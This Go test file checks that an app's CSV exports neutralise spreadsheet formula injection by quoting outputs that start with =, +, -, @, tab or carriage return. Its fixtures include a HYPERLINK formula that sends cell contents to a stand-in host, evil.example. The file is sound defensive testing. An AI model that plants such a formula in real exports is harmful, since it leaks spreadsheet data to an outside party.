package handlers_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/ruckus/ruckus/app/export"
	"github.com/ruckus/ruckus/app/store"
)

// Model outputs that a spreadsheet would run as formulas (=, +, -, @, a
// tab or a carriage return first) leave the CSV exports with a leading
// single quote, as OWASP recommends against CSV injection; ?raw=true gives
// them as stored, and a bad raw value is refused naming it.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	tok := e.token(e.createUser("ada@example.com", "correct horse", store.RoleUser))
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1", "plain", "42", ""}
	b, run := runWithResults(t, e, tok, 9, func(i int) string { return hostile[i] })
	read := func(path string) [][]string {
		t.Helper()
		st, _, body := e.raw(path, tok)
		if st != 200 {
			t.Fatalf("GET %s: %d %s", path, st, body)
		}
		recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		return recs
	}
	outputs := func(recs [][]string) []string {
		col := -1
		for i, h := range recs[0] {
			if h == "output" {
				col = i
			}
		}
		var out []string
		for _, r := range recs[1:] {
			out = append(out, r[col])
		}
		return out
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\tcmd", "'\r=1", "plain", "42", ""}
	for _, path := range []string{fmt.Sprintf("/api/v1/runs/%d/results?format=csv", run), fmt.Sprintf("/api/v1/benchmarks/%s/export?format=csv", b)} {
		got := outputs(read(path))
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("%s outputs:\n got %q\nwant %q", path, got, want)
		}
		raw := outputs(read(path + "&raw=true"))
		if strings.Join(raw, "|") != strings.Join(hostile, "|") {
			t.Errorf("%s&raw=true outputs:\n got %q\nwant %q", path, raw, hostile)
		}
	}
	if st, _, body := e.raw(fmt.Sprintf("/api/v1/runs/%d/results?format=csv&raw=maybe", run), tok); st != 400 || !strings.Contains(body, "raw must be true or false") {
		t.Errorf("raw=maybe: %d %s", st, body)
	}
	for in, want := range map[string]string{"=1": "'=1", "-x": "'-x", "x=1": "x=1", "": "", "@": "'@"} {
		if got := export.FormulaSafe(in); got != want {
			t.Errorf("FormulaSafe(%q) = %q, want %q", in, got, want)
		}
	}
}
